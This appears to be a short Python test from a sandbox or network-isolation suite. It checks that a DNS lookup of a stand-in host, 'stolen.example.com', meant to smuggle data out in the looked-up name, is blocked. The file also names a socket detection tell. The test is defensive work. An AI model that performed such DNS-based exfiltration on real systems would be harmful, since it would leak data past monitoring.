r"""Smuggles data out in a name that is looked up.

tells: network socket\(AF_INET\)
"""

import socket

from prelude import held, must_fail

must_fail(socket.getaddrinfo, "stolen.example.com", 80)
held()
